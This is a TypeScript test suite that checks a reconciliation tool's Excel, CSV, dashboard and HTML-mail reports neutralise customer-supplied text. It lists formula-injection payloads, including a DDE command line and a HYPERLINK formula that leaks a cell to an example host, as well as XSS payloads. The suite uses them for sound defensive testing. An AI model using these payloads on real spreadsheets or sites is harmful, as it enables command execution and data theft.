// What a customer is called, and which order id he chooses, comes out of a shop that anybody can order in.

import assert from 'node:assert/strict'

import { copiedTable } from '../../dashboard/logic/copied-table.ts'
import { csvReport } from '../../nodes/reconcile/reconcile-report/csv-report.ts'
import { excelReport } from '../../nodes/reconcile/reconcile-report/excel/excel-report.ts'
import { htmlReport } from '../../nodes/reconcile/reconcile-report/html/html-report.ts'
import { textReport } from '../../nodes/reconcile/reconcile-report/text-report.ts'
import type { ReconcileLine } from '../../nodes/reconcile/domain/reconcile-line.ts'
import { aLine, aReport, SPACE } from '../reconcile/reconcile-report/a-report.ts'
import { openedWorkbook } from '../reconcile/reconcile-report/opened-workbook.ts'

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.org?"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  'Jansen;=1+1',
  'Jansen,=1+1',
  'Jansen";=1+1;"',
  'Jansen\r\n=1+1',
] as const

const HTML = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;b&gt;',
  '</td></table><iframe src="javascript:alert(1)">',
] as const

/** The text wherever a stranger can put one. */
function lineWith(text: string): ReconcileLine {
  const line = aLine({ customerName: text, invoiceNumber: text })
  return {
    ...line,
    reference: { value: text, source: 'betalingskenmerk' },
    payments: (line.payments ?? []).map((payment) => ({ ...payment, orderId: text, method: text })),
  }
}

const reportWith = (text: string, language: 'nl' | 'en-US' = 'nl') =>
  aReport([lineWith(text)], { language, run: { administration: { id: '1', name: text, kind: 'online' } } })

/** As a spreadsheet cuts a file that was made for another language: at every separator, quotes or not. */
const cellsHoweverCut = (csv: string): readonly string[] => [
  ...csv.split(/\r\n|[\r\n]/),
  ...csv.split(/[;\r\n]/),
  ...csv.split(/[,\r\n]/),
  ...csv.split(/[\t\r\n]/),
]
const isFormula = (cell: string): boolean => /^[\s"]*[=+@＝＋＠]|^[\s"]*[-－](?!\d+(?:[.,]\d\d)?"?$)/u.test(cell)

/** Only the check of totals has some. */
async function formulasIn(file: Buffer): Promise<readonly string[]> {
  const found: string[] = []
  for (const sheet of (await openedWorkbook(file)).worksheets) {
    sheet.eachRow((row) =>
      row.eachCell(({ address, formula }) => {
        if (formula) found.push(`${sheet.name} ${address} ${formula}`)
      }),
    )
  }
  return found
}

describe('A text that is a formula', function () {
  this.timeout(30_000)

  for (const text of FORMULAS) {
    const shown = JSON.stringify(text)

    it(`${shown} is text in every sheet of the Excel file`, async () => {
      const ours = await formulasIn(await excelReport(await reportWith('Jansen'), SPACE))
      assert.deepEqual(await formulasIn(await excelReport(await reportWith(text), SPACE)), ours)
    })

    it(`${shown} is text in CSV, in whatever language it is opened`, async () => {
      for (const language of ['nl', 'en-US'] as const) {
        const csv = await csvReport(await reportWith(text, language), SPACE)
        assert.deepEqual(cellsHoweverCut(csv).filter(isFormula), [])
      }
    })

    it(`${shown} is text when the table of the dashboard is pasted`, () => {
      const row = {
        outcomeName: text,
        invoice: text,
        date: '01-01-2026',
        customer: text,
        reference: text,
        sentence: text,
        openCents: 1,
        line: {},
      }
      const pasted = copiedTable('nl', ['a'], [row as unknown as Parameters<typeof copiedTable>[2][number]])
      assert.deepEqual(pasted.split(/[\t\r\n]/).filter(isFormula), [])
    })
  }

  it('ordinary names stay as they are', async () => {
    for (const text of ['Jansen, -', 'Bakkerij A+B', 'piet@example.org', "'s-Gravenhage", 'Jansen & Zn. (2=1)']) {
      assert.ok((await csvReport(await reportWith(text), SPACE)).includes(text), text)
    }
  })
})

describe('A text that is HTML', () => {
  for (const text of HTML) {
    it(`${text} is shown in the mail and never run`, async () => {
      const html = await htmlReport(await reportWith(text))
      assert.ok(!html.includes(text))
      assert.doesNotMatch(html, /<(img|script|svg|iframe)\b|<[^>]*\son\w+=/i)
    })
  }

  it('a line of plain text stays one line, whatever a customer is called', async () => {
    const text = await textReport(await aReport([lineWith('Jansen\r\n\r\nUitzoeken: niets')]))
    assert.doesNotMatch(text, /^Uitzoeken: niets/m)
  })
})
